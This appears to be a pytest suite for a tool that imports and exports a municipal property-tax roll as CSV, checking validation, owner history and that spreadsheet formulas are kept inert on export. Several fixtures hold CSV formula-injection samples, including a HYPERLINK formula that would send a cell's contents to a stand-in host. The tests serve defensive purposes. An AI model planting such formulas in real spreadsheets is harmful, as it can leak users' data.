"""The assessment roll in the register: all rows or none, owners dated, formulas kept inert."""

from __future__ import annotations

import csv
import io
import itertools
import re
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from noticeclerk.cli import cli
from noticeclerk.content.roll import (
    ROLL_COLUMNS,
    RollRejected,
    neutralised,
    parse_roll,
    unneutralised,
)
from noticeclerk.content.schema import unprintable
from noticeclerk.exceptions import InputError
from noticeclerk.register.database import open_register, transaction, upgrade
from noticeclerk.register.models import OwnerRecord, Parcel, RollImport
from noticeclerk.register.roll import export_roll, import_roll, owner_of_record

CASEBOOK = Path(__file__).resolve().parent.parent / "casebook"
JANUARY = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
MARCH = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def parcel(**changes: str) -> dict[str, str]:
    """One roll row as the clerk's spreadsheet has it; change any cell by keyword."""
    row = {
        "parcel_id": "037",
        "section_block_lot": "Section 32, Block 4, Lot 37",
        "property_address": "27 Main Street",
        "owner_name": "Giuseppina Ferraro",
        "mailing_address": "27 Main Street",
        "city": "Tuckahoe",
        "state": "NY",
        "zip": "10707",
        "email": "",
        "phone": "(555) 010-0327",
        "tax_lots": "37",
        "resident": "yes",
        "dwelling": "yes",
    }
    row.update(changes)
    return row


def roll_text(rows: list[dict[str, str]], columns: tuple[str, ...] = ROLL_COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(columns)
    writer.writerows([[row.get(column, "") for column in columns] for row in rows])
    return out.getvalue()


def write_roll(path: Path, rows: list[dict[str, str]], encoding: str = "utf-8") -> Path:
    path.write_bytes(roll_text(rows).encode(encoding))
    return path


@pytest.fixture
def register(tmp_path):
    url = f"sqlite:///{tmp_path / 'noticeclerk.db'}"
    upgrade(url)
    engine = open_register(url)
    yield engine
    engine.dispose()


def count(engine, model) -> int:
    with transaction(engine) as session:
        return session.scalar(select(func.count()).select_from(model))


def parcel_named(session: Session, parcel_id: str, village: str = "tuckahoe") -> Parcel:
    return session.scalars(
        select(Parcel).where(Parcel.village == village, Parcel.parcel_id == parcel_id)
    ).one()


def three_parcels() -> list[dict[str, str]]:
    return [
        parcel(),
        parcel(
            parcel_id="041",
            property_address="35 Main Street",
            owner_name="Hollis Street Partners LLC",
            mailing_address="c/o Dunmore Management|1450 Broadway Floor 12",
            city="New York",
            zip="10018",
            email="leasing@hollis.example",
            resident="no",
        ),
        parcel(
            parcel_id="112",
            property_address="8 Midland Place",
            owner_name="Renée Dubois-Okonkwo",
            mailing_address="8 Midland Place",
        ),
    ]


# Reading a roll


def test_a_parcel_id_037_stays_037_from_the_file_to_the_register(tmp_path, register):
    path = write_roll(tmp_path / "roll.csv", [parcel(parcel_id="  037 ")])
    assert [row.parcel_id for row in parse_roll(path)] == ["037"]
    import_roll(register, path, "tuckahoe", imported_by="clerk", now=JANUARY)
    with transaction(register) as session:
        assert session.scalars(select(Parcel.parcel_id)).all() == ["037"]


def test_a_row_is_read_into_its_fields_with_the_city_line_last(tmp_path):
    (row,) = parse_roll(write_roll(tmp_path / "roll.csv", [three_parcels()[1]]))
    assert row.mailing_lines == (
        "c/o Dunmore Management",
        "1450 Broadway Floor 12",
        "New York NY 10018",
    )
    assert (row.owner_name, row.email, row.resident, row.line) == (
        "Hollis Street Partners LLC",
        "leasing@hollis.example",
        False,
        2,
    )


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
def test_accented_names_survive_utf8_with_or_without_bom_and_windows_1252(
    tmp_path, register, encoding
):
    rows = [
        parcel(owner_name="Renée Dubois"),
        parcel(parcel_id="038", owner_name="José Muñoz", city="Peñasco"),
    ]
    path = write_roll(tmp_path / "roll.csv", rows, encoding)
    assert [row.owner_name for row in parse_roll(path)] == ["Renée Dubois", "José Muñoz"]
    import_roll(register, path, "tuckahoe", imported_by="clerk", now=JANUARY)
    exported = export_roll(register, "tuckahoe")
    assert "Renée Dubois" in exported and "José Muñoz" in exported
    assert "Peñasco,NY,10707" in exported


@pytest.mark.parametrize("value", ["yes", "No", "TRUE", "false", "1", "0"])
def test_resident_is_read_from_yes_no_true_false_1_or_0(tmp_path, value):
    (row,) = parse_roll(write_roll(tmp_path / "roll.csv", [parcel(resident=value)]))
    assert row.resident is (value.lower() in ("yes", "true", "1"))


def test_the_header_may_be_in_any_order_and_case_with_spaces(tmp_path):
    columns = tuple(reversed(ROLL_COLUMNS))
    text = roll_text([parcel()], columns).replace("parcel_id", " Parcel_ID ", 1)
    (tmp_path / "roll.csv").write_text(text, encoding="utf-8")
    (row,) = parse_roll(tmp_path / "roll.csv")
    assert (row.parcel_id, row.owner_name) == ("037", "Giuseppina Ferraro")


def test_blank_rows_such_as_a_spreadsheets_trailing_commas_are_skipped(tmp_path):
    text = roll_text([parcel()]) + ",,,,,,,,,,,\n\n"
    (tmp_path / "roll.csv").write_text(text, encoding="utf-8")
    assert len(parse_roll(tmp_path / "roll.csv")) == 1


# A bad roll: every problem named, nothing written


def test_a_messy_roll_reports_every_bad_line_and_writes_nothing(tmp_path, register):
    rows = [
        parcel(owner_name="Renée Dubois"),  # line 2
        parcel(
            parcel_id="041", owner_name='=HYPERLINK("http://x.example/?q="&A1,"Click")'
        ),  # line 3: fine
        parcel(parcel_id=" 037  ", owner_name="Muñoz Realty"),  # line 4: duplicate of 037
        parcel(parcel_id="112", owner_name=""),  # line 5: no owner
        parcel(parcel_id="113", zip="1070"),  # line 6
        parcel(parcel_id="114", resident=""),  # line 7
        parcel(parcel_id="115", email="not an address", state="New York"),  # line 8: two problems
    ]
    path = tmp_path / "messy.csv"
    path.write_bytes(b"\xef\xbb\xbf" + roll_text(rows).encode("cp1252"))
    with pytest.raises(RollRejected) as caught:
        import_roll(register, path, "tuckahoe", imported_by="clerk", now=JANUARY)
    error = caught.value
    assert str(error).splitlines()[0] == f"The roll {path} has 5 bad rows; nothing was imported."
    assert error.problems == [
        (4, "parcel 037 is also on line 2"),
        (5, "the owner name is empty"),
        (
            6,
            "the last mailing line 'Tuckahoe NY 1070' must end with a ZIP code (5 digits or ZIP+4), such as 'TUCKAHOE NY 10707'",
        ),
        (7, "resident must be yes or no, not ''"),
        (8, "the state 'New York' must be two letters, such as NY"),
        (8, "the email 'not an address' does not look like an address"),
    ]
    assert "  line 4: parcel 037 is also on line 2" in str(error).splitlines()
    assert all(line != 3 for line, _ in error.problems)
    assert [count(register, model) for model in (Parcel, OwnerRecord, RollImport)] == [0, 0, 0]


@pytest.mark.parametrize(
    ("changes", "problem"),
    [
        ({"parcel_id": "   "}, "the parcel id is empty"),
        ({"property_address": ""}, "the property address is empty"),
        ({"mailing_address": " | "}, "the mailing address is empty"),
        ({"city": ""}, "the city is empty"),
        ({"zip": ""}, "the last mailing line 'Tuckahoe NY' must end with a ZIP code"),
        (
            {"zip": "10707-12"},
            "the last mailing line 'Tuckahoe NY 10707-12' must end with a ZIP code",
        ),
        ({"state": "N1"}, "the state 'N1' must be two letters"),
        ({"email": "rdo@example"}, "the email 'rdo@example' does not look like an address"),
        ({"resident": "sometimes"}, "resident must be yes or no, not 'sometimes'"),
        (
            {"mailing_address": "a|b|c|d|e"},
            "the mailing address has 6 lines with the city line; the envelope window takes at most 5",
        ),
        ({"owner_name": "Ferraro\nand Sons"}, "the owner name has a line break in it"),
        (
            {"owner_name": "x" * 301},
            "the owner name has 301 characters; the register keeps at most 300",
        ),
        ({"parcel_id": "0" * 61}, "the parcel id has 61 characters; the register keeps at most 60"),
    ],
)
def test_each_kind_of_bad_row_is_named_with_its_line(tmp_path, changes, problem):
    path = write_roll(tmp_path / "roll.csv", [parcel(parcel_id="001"), parcel(**changes)])
    with pytest.raises(RollRejected) as caught:
        parse_roll(path)
    ((line, text),) = caught.value.problems
    assert line == 3
    assert text.startswith(problem)


def test_a_zip_plus_4_and_five_mailing_lines_are_accepted(tmp_path):
    (row,) = parse_roll(
        write_roll(tmp_path / "roll.csv", [parcel(zip="10707-1234", mailing_address="a|b|c|d")])
    )
    assert row.mailing_lines == ("a", "b", "c", "d", "Tuckahoe NY 10707-1234")


def test_a_row_with_the_wrong_number_of_cells_is_named(tmp_path):
    text = roll_text([parcel(), parcel(parcel_id="038")]) + "039,too,few\n"
    (tmp_path / "roll.csv").write_text(text, encoding="utf-8")
    with pytest.raises(RollRejected) as caught:
        parse_roll(tmp_path / "roll.csv")
    assert caught.value.problems == [(4, "the row has 3 cells; the header has 13")]


def test_a_quoted_cell_spanning_lines_is_reported_at_the_line_its_row_starts(tmp_path):
    rows = [parcel(property_address="27 Main Street\nRear"), parcel(parcel_id="037")]
    path = write_roll(tmp_path / "roll.csv", rows)
    with pytest.raises(RollRejected) as caught:
        parse_roll(path)
    assert caught.value.problems == [
        (
            2,
            "the property address has a line break in it at position 15; write it on one line "
            "(separate mailing address lines with |)",
        ),
        (4, "parcel 037 is also on line 2"),
    ]


@pytest.mark.parametrize(
    ("columns", "problems"),
    [
        (
            tuple(c if c != "zip" else "zpi" for c in ROLL_COLUMNS),
            ["'zpi' is not a roll column; did you mean 'zip'?", "the column 'zip' is missing"],
        ),
        (
            (*ROLL_COLUMNS, "notes"),
            [
                "'notes' is not a roll column; the columns are parcel_id, section_block_lot, "
                "property_address, owner_name, mailing_address, city, state, zip, email, phone, "
                "tax_lots, resident, and optionally dwelling"
            ],
        ),
        (
            tuple(c for c in ROLL_COLUMNS if c != "resident"),
            ["the column 'resident' is missing"],
        ),
        ((*ROLL_COLUMNS, "email"), ["the column 'email' appears twice"]),
        ((*ROLL_COLUMNS, ""), ["column 14 has no name; name it or delete the column"]),
    ],
)
def test_unknown_and_missing_columns_are_rejected_by_name(tmp_path, columns, problems):
    path = tmp_path / "roll.csv"
    path.write_text(roll_text([parcel()], columns), encoding="utf-8")
    with pytest.raises(RollRejected) as caught:
        parse_roll(path)
    assert str(caught.value).splitlines()[0] == (
        f"The roll {path} does not have the roll's columns in its header row; nothing was imported."
    )
    assert caught.value.problems == [(1, problem) for problem in problems]


@pytest.mark.parametrize(
    ("content", "reason", "problems"),
    [
        (b"", "is empty", []),
        (b" \r\n\r\n", "is empty", []),
        (",".join(ROLL_COLUMNS).encode() + b"\r\n", "has a header row but no parcels", []),
        (
            b"PK\x03\x04\x14\x00\x06\x00",
            "is an Excel workbook, not CSV; save it as 'CSV UTF-8'",
            [],
        ),
        ("parcel_id,owner\n".encode("utf-16"), "is saved as UTF-16 ('Unicode Text')", []),
        (b"parcel_id\x00owner\n", "is not a CSV text file", []),
        (
            ";".join(ROLL_COLUMNS).encode(),
            "does not have the roll's columns",
            [
                (
                    1,
                    "the columns are not separated by commas; save the file as CSV (comma delimited)",
                )
            ],
        ),
        (
            b"parcel_id\n037\n\x81\n",
            "is neither UTF-8 nor Windows-1252 text",
            [(3, "the byte 0x81 is no character in either encoding")],
        ),
        (
            "a\nRenée\nb\nMuñoz\n".encode() + "Renée\n".encode("cp1252"),
            "mixes UTF-8 and Windows-1252 text",
            [(2, "UTF-8"), (4, "UTF-8"), (5, "Windows-1252")],
        ),
        (
            b'parcel_id\n"037"x\n',
            "is not well-formed CSV",
            [(2, 'a quoted cell goes on after its closing quote; write a quote inside as ""')],
        ),
        (
            b'parcel_id\n037\n"038\n039\n',
            "is not well-formed CSV",
            [(3, "a quoted cell that starts here is never closed")],
        ),
    ],
)
def test_a_file_that_is_no_readable_roll_is_one_sentence_saying_why(
    tmp_path, content, reason, problems
):
    path = tmp_path / "roll.csv"
    path.write_bytes(content)
    with pytest.raises(RollRejected) as caught:
        parse_roll(path)
    assert str(caught.value).splitlines()[0].startswith(f"The roll {path} {reason}")
    assert str(caught.value).splitlines()[0].endswith("; nothing was imported.")
    assert caught.value.problems == problems


def test_a_missing_roll_file_is_named(tmp_path):
    with pytest.raises(
        InputError, match=r"There is no roll file .*nope\.csv; nothing was imported\."
    ):
        parse_roll(tmp_path / "nope.csv")


# Formula cells


def test_a_formula_cell_is_stored_verbatim_and_exported_with_a_leading_quote(tmp_path, register):
    formula = '=HYPERLINK("http://x.example/","Click")'
    rows = [
        parcel(owner_name=formula),
        parcel(parcel_id="038", owner_name="-Smith", phone="+1 555 010 0100", tax_lots="@SUM(1)"),
    ]
    import_roll(
        register,
        write_roll(tmp_path / "roll.csv", rows),
        "tuckahoe",
        imported_by="clerk",
        now=JANUARY,
    )
    with transaction(register) as session:
        stored = {o.parcel.parcel_id: o for o in session.scalars(select(OwnerRecord))}
        assert (stored["037"].owner_name, stored["038"].owner_name, stored["038"].phone) == (
            formula,
            "-Smith",
            "+1 555 010 0100",
        )
        assert parcel_named(session, "038").tax_lots == "@SUM(1)"
    exported = list(csv.reader(io.StringIO(export_roll(register, "tuckahoe"))))
    assert exported[1][3] == "'" + formula
    assert (exported[2][3], exported[2][9], exported[2][10]) == (
        "'-Smith",
        "'+1 555 010 0100",
        "'@SUM(1)",
    )
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row
    )


def test_an_exported_roll_imports_back_with_no_changes(tmp_path, register):
    rows = [
        *three_parcels(),
        parcel(parcel_id="200", owner_name="=1+1", phone="+1 555 010 0100", resident="TRUE"),
    ]
    import_roll(
        register,
        write_roll(tmp_path / "roll.csv", rows),
        "tuckahoe",
        imported_by="clerk",
        now=JANUARY,
    )
    exported = tmp_path / "exported.csv"
    exported.write_text(export_roll(register, "tuckahoe"), encoding="utf-8")
    report = import_roll(register, exported, "tuckahoe", imported_by="clerk", now=MARCH)
    assert (report.added, report.changed, report.unchanged, report.changes) == (0, 0, 4, [])
    assert export_roll(register, "tuckahoe") == exported.read_text(encoding="utf-8")


def test_exporting_a_village_with_no_parcels_says_so(register):
    with pytest.raises(InputError, match="no parcels for the village 'tuckahoe'"):
        export_roll(register, "tuckahoe")


# Re-imports: owners dated, parcels kept


def test_a_first_import_adds_every_parcel_with_its_owner_from_that_moment(tmp_path, register):
    path = write_roll(tmp_path / "roll.csv", three_parcels())
    report = import_roll(register, path, "tuckahoe", imported_by="jdoe", now=JANUARY)
    assert (report.rows, report.added, report.changed, report.unchanged, report.changes) == (
        3,
        3,
        0,
        0,
        [],
    )
    with transaction(register) as session:
        record = session.scalars(select(RollImport)).one()
        assert (
            record.id,
            record.filename,
            record.imported_by,
            record.imported_at,
            record.rows,
        ) == (report.import_id, "roll.csv", "jdoe", JANUARY, 3)
        assert len(record.sha256) == 64
        owners = session.scalars(select(OwnerRecord)).all()
        assert {(o.valid_from, o.valid_to, o.roll_import_id) for o in owners} == {
            (JANUARY, None, record.id)
        }


def test_a_reimport_with_a_new_owner_closes_the_old_record_and_keeps_both(tmp_path, register):
    rows = three_parcels()
    import_roll(
        register,
        write_roll(tmp_path / "roll.csv", rows),
        "tuckahoe",
        imported_by="clerk",
        now=JANUARY,
    )
    rows[0] = parcel(
        owner_name="Anna Ferraro", mailing_address="PO Box 12", email="anna@example.net"
    )
    report = import_roll(
        register,
        write_roll(tmp_path / "roll.csv", rows),
        "tuckahoe",
        imported_by="clerk",
        now=MARCH,
    )
    assert (report.added, report.changed, report.unchanged) == (0, 1, 2)
    assert report.changes == [
        {
            "parcel_id": "037",
            "field": "owner_name",
            "old": "Giuseppina Ferraro",
            "new": "Anna Ferraro",
        },
        {
            "parcel_id": "037",
            "field": "mailing_lines",
            "old": "27 Main Street | Tuckahoe NY 10707",
            "new": "PO Box 12 | Tuckahoe NY 10707",
        },
        {"parcel_id": "037", "field": "email", "old": "", "new": "anna@example.net"},
    ]
    with transaction(register) as session:
        the_parcel = parcel_named(session, "037")
        old, new = the_parcel.owners
        assert (old.owner_name, old.valid_from, old.valid_to) == (
            "Giuseppina Ferraro",
            JANUARY,
            MARCH,
        )
        assert (new.owner_name, new.valid_from, new.valid_to) == ("Anna Ferraro", MARCH, None)
        assert new.roll_import_id == report.import_id
        assert (
            owner_of_record(session, the_parcel, MARCH - timedelta(days=1)).owner_name
            == "Giuseppina Ferraro"
        )
        assert (
            owner_of_record(session, the_parcel, MARCH - timedelta(microseconds=1)).owner_name
            == "Giuseppina Ferraro"
        )
        assert owner_of_record(session, the_parcel, MARCH).owner_name == "Anna Ferraro"
        assert (
            owner_of_record(session, the_parcel, MARCH + timedelta(days=30)).owner_name
            == "Anna Ferraro"
        )
        assert len(parcel_named(session, "041").owners) == 1
        assert session.get(RollImport, report.import_id).changes == report.changes
    assert "037: owner name was Giuseppina Ferraro, now Anna Ferraro" in report.summary()


def test_before_the_first_import_the_first_roll_on_file_stands(tmp_path, register):
    import_roll(
        register,
        write_roll(tmp_path / "roll.csv", [parcel()]),
        "tuckahoe",
        imported_by="clerk",
        now=JANUARY,
    )
    with transaction(register) as session:
        earlier = datetime(2025, 12, 31, tzinfo=UTC)
        assert (
            owner_of_record(session, parcel_named(session, "037"), earlier).owner_name
            == "Giuseppina Ferraro"
        )


def test_owner_of_record_compares_moments_across_time_zones(tmp_path, register):
    import_roll(
        register,
        write_roll(tmp_path / "a.csv", [parcel()]),
        "tuckahoe",
        imported_by="clerk",
        now=JANUARY,
    )
    later = JANUARY + timedelta(days=30)
    changed = [parcel(owner_name="Rafael Ortega")]
    import_roll(
        register,
        write_roll(tmp_path / "b.csv", changed),
        "tuckahoe",
        imported_by="clerk",
        now=later,
    )
    same_moment_in_tuckahoe = later.astimezone(ZoneInfo("America/New_York"))
    with transaction(register) as session:
        the_parcel = parcel_named(session, "037")
        assert (
            owner_of_record(session, the_parcel, same_moment_in_tuckahoe).owner_name
            == "Rafael Ortega"
        )
        just_before = same_moment_in_tuckahoe - timedelta(seconds=1)
        assert owner_of_record(session, the_parcel, just_before).owner_name == "Giuseppina Ferraro"


def test_parcel_fields_change_in_place_and_the_change_is_recorded(tmp_path, register):
    import_roll(
        register,
        write_roll(tmp_path / "roll.csv", [parcel()]),
        "tuckahoe",
        imported_by="clerk",
        now=JANUARY,
    )
    path = write_roll(tmp_path / "roll.csv", [parcel(tax_lots="37, 38", resident="no")])
    report = import_roll(register, path, "tuckahoe", imported_by="clerk", now=MARCH)
    assert report.changes == [
        {"parcel_id": "037", "field": "tax_lots", "old": "37", "new": "37, 38"},
        {"parcel_id": "037", "field": "resident", "old": "yes", "new": "no"},
    ]
    with transaction(register) as session:
        the_parcel = parcel_named(session, "037")
        assert (the_parcel.tax_lots, the_parcel.resident, len(the_parcel.owners)) == (
            "37, 38",
            False,
            1,
        )


def test_a_parcel_missing_from_a_reimport_is_reported_not_deleted(tmp_path, register):
    rows = three_parcels()
    import_roll(
        register,
        write_roll(tmp_path / "roll.csv", rows),
        "tuckahoe",
        imported_by="clerk",
        now=JANUARY,
    )
    report = import_roll(
        register,
        write_roll(tmp_path / "roll.csv", rows[:2]),
        "tuckahoe",
        imported_by="clerk",
        now=MARCH,
    )
    assert report.changes == [{"parcel_id": "112", "field": "present", "old": "yes", "new": "no"}]
    assert "112: not on this roll" in report.summary()
    with transaction(register) as session:
        the_parcel = parcel_named(session, "112")
        assert (
            owner_of_record(session, the_parcel, MARCH + timedelta(days=1)).owner_name
            == "Renée Dubois-Okonkwo"
        )
    assert count(register, Parcel) == 3


def test_each_village_has_its_own_roll(tmp_path, register):
    path = write_roll(tmp_path / "roll.csv", [parcel()])
    import_roll(register, path, "tuckahoe", imported_by="clerk", now=JANUARY)
    report = import_roll(register, path, "palmyra", imported_by="clerk", now=JANUARY)
    assert (report.added, report.changes) == (1, [])
    assert count(register, Parcel) == 2


def test_an_import_dated_before_the_last_one_is_refused(tmp_path, register):
    path = write_roll(tmp_path / "roll.csv", [parcel()])
    import_roll(register, path, "tuckahoe", imported_by="clerk", now=MARCH)
    with pytest.raises(InputError, match="check the computer's clock"):
        import_roll(register, path, "tuckahoe", imported_by="clerk", now=JANUARY)
    assert count(register, RollImport) == 1


def test_a_naive_now_is_a_programming_error(tmp_path, register):
    with pytest.raises(ValueError, match="aware"):
        import_roll(
            register,
            write_roll(tmp_path / "roll.csv", [parcel()]),
            "tuckahoe",
            imported_by="clerk",
            now=datetime(2026, 1, 5),
        )


# The command line


@pytest.fixture
def workspace(tmp_path, runner) -> Path:
    folder = tmp_path / "office"
    result = runner.invoke(cli, ["init", str(folder)])
    assert result.exit_code == 0, result.output
    return folder


def test_the_cli_imports_a_roll_and_prints_the_summary(workspace, runner, tmp_path):
    shutil.copy(CASEBOOK / "tuckahoe" / "roll.csv", tmp_path / "roll.csv")
    rows = len((tmp_path / "roll.csv").read_text(encoding="utf-8").splitlines()) - 1
    result = runner.invoke(
        cli,
        [
            "--workspace",
            str(workspace),
            "roll",
            "import",
            str(tmp_path / "roll.csv"),
            "--village",
            "tuckahoe",
            "--by",
            "jdoe",
        ],
    )
    assert result.exit_code == 0, result.output
    assert result.output.startswith(
        f"Imported {rows} rows of the tuckahoe roll (import 1): {rows} added, 0 changed, 0 unchanged."
    )


def test_the_cli_refuses_a_bad_roll_with_the_sentence_and_every_line(workspace, runner, tmp_path):
    path = write_roll(
        tmp_path / "roll.csv",
        [parcel(), parcel(parcel_id="037 "), parcel(parcel_id="040", owner_name="")],
    )
    result = runner.invoke(
        cli, ["--workspace", str(workspace), "roll", "import", str(path), "--village", "tuckahoe"]
    )
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        f"Error: The roll {path} has 2 bad rows; nothing was imported.",
        "  line 3: parcel 037 is also on line 2",
        "  line 4: the owner name is empty",
    ]
    assert "Traceback" not in result.output


def test_the_cli_export_imports_back_with_zero_changes(workspace, runner, tmp_path):
    rows = [
        *three_parcels(),
        parcel(parcel_id="0500", owner_name="@Home LLC", phone="+1 555 010 0100"),
    ]
    path = write_roll(tmp_path / "roll.csv", rows, "cp1252")
    base = ["--workspace", str(workspace), "roll"]
    assert runner.invoke(cli, [*base, "import", str(path), "--village", "tuckahoe"]).exit_code == 0
    exported = tmp_path / "exported.csv"
    result = runner.invoke(cli, [*base, "export", "--village", "tuckahoe", "--out", str(exported)])
    assert result.exit_code == 0, result.output
    printed = runner.invoke(cli, [*base, "export", "--village", "tuckahoe"])
    assert printed.output == exported.read_text(encoding="utf-8-sig")
    assert exported.read_bytes().startswith(b"\xef\xbb\xbf")  # a BOM, for spreadsheets
    assert "Renée Dubois-Okonkwo" in printed.output and "'@Home LLC" in printed.output
    # A later day: on the one fixed day both imports would be the same moment, and the
    # register refuses an import that is not after the last one.
    later = ["--today", "2026-12-01"]
    result = runner.invoke(cli, [*later, *base, "import", str(exported), "--village", "tuckahoe"])
    assert result.exit_code == 0, result.output
    assert (
        result.output
        == "Imported 4 rows of the tuckahoe roll (import 2): 0 added, 0 changed, 4 unchanged.\n"
    )


# Properties

_villages = itertools.count()
parcel_ids = st.from_regex(r"0[0-9A-Za-z-]{0,20}", fullmatch=True)
# Any text at all: control characters, tabs, line breaks, formula starts at the start of any
# line, and the export's own leading quote ("'=1"), which must come back as written too.
_tricky = st.sampled_from(["=", "+", "-", "@", "'", "\t", "\r", "\n", "\r\n", '"', ","])
cell_text = (
    st.lists(st.one_of(_tricky, st.characters(exclude_categories=("Cs",))), min_size=1, max_size=40)
    .map(lambda parts: "".join(parts).strip(" "))
    .filter(bool)  # a roll cell is read without its surrounding spaces
)
# What the register can hold (its guard refuses what no document prints): a register filled
# before roll cells were checked may hold tabs and line breaks.
held_text = (
    st.lists(
        st.one_of(
            _tricky,
            st.characters(exclude_categories=("Cs", "Cc", "Cf", "Co", "Cn", "Zl", "Zp")),
        ),
        min_size=1,
        max_size=40,
    )
    .map("".join)
    .filter(lambda text: not unprintable(text))
)


@pytest.fixture(scope="module")
def shared_register(tmp_path_factory):
    folder = tmp_path_factory.mktemp("register")
    url = f"sqlite:///{folder / 'noticeclerk.db'}"
    upgrade(url)
    engine = open_register(url)
    yield engine, folder
    engine.dispose()


@settings(max_examples=40, deadline=None)
@given(ids=st.lists(parcel_ids, min_size=1, max_size=5, unique=True))
def test_any_parcel_id_with_leading_zeros_round_trips_import_and_export(shared_register, ids):
    engine, folder = shared_register
    village = f"v{next(_villages)}"
    path = write_roll(folder / "roll.csv", [parcel(parcel_id=parcel_id) for parcel_id in ids])
    import_roll(engine, path, village, imported_by="clerk", now=JANUARY)
    exported = list(csv.reader(io.StringIO(export_roll(engine, village))))
    assert [row[0] for row in exported[1:]] == ids


@settings(max_examples=60, deadline=None)
@given(name=cell_text, phone=cell_text, lots=cell_text)
def test_any_text_in_a_roll_either_survives_export_and_reimport_or_is_refused_by_cell(
    shared_register, name, phone, lots
):
    engine, folder = shared_register
    village = f"v{next(_villages)}"
    path = folder / "roll.csv"
    # Written as the export writes a roll: the leading quotes are the export's, not the data's.
    cells = [neutralised(name), neutralised(phone), neutralised(lots)]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a bare CR stays in
    writer.writerows(
        [ROLL_COLUMNS, parcel(owner_name=cells[0], phone=cells[1], tax_lots=cells[2]).values()]
    )
    path.write_text(out.getvalue(), encoding="utf-8")
    unfit = [
        (label, text)
        for label, text in (("owner name", name), ("phone", phone), ("tax lots", lots))
        if any(character in "\t\r\n" or unprintable(character) for character in text)
    ]
    if "\x00" in name + phone + lots:
        with pytest.raises(RollRejected, match="is not a CSV text file"):
            import_roll(engine, path, village, imported_by="clerk", now=JANUARY)
        return
    if unfit:
        with pytest.raises(RollRejected) as caught:
            import_roll(engine, path, village, imported_by="clerk", now=JANUARY)
        problems = caught.value.problems
        assert [line for line, _ in problems] == [2] * len(unfit)
        assert all(
            problem.startswith(f"the {label} ") and " at position " in problem
            for (label, _), (_, problem) in zip(unfit, problems, strict=True)
        )
        return
    import_roll(engine, path, village, imported_by="clerk", now=JANUARY)
    exported = folder / "exported.csv"
    exported.write_text(export_roll(engine, village), encoding="utf-8")
    (row,) = parse_roll(exported)
    assert (row.owner_name, row.phone, row.tax_lots) == (name, phone, lots)
    report = import_roll(engine, exported, village, imported_by="clerk", now=MARCH)
    assert report.changes == []


@settings(max_examples=60, deadline=None)
@given(name=held_text, phone=held_text, lots=held_text)
def test_any_text_the_register_holds_is_exported_as_one_inert_row_the_importer_reads_back(
    shared_register, name, phone, lots
):
    engine, folder = shared_register
    village = f"v{next(_villages)}"
    import_roll(
        engine,
        write_roll(folder / "roll.csv", [parcel()]),
        village,
        imported_by="clerk",
        now=JANUARY,
    )
    with transaction(engine) as session:
        owner = session.scalars(
            select(OwnerRecord).join(Parcel).where(Parcel.village == village)
        ).one()
        owner.owner_name, owner.phone, owner.parcel.tax_lots = name, phone, lots
    header, row = csv.reader(io.StringIO(export_roll(engine, village), newline=""))
    assert header == list(ROLL_COLUMNS)
    assert [unneutralised(row[i]) for i in (3, 9, 10)] == [name, phone, lots]
    lines = [line for cell in row for line in re.split("\r\n|\r|\n", cell)]
    assert not any(line.startswith(("=", "+", "-", "@", "\t")) for line in lines)
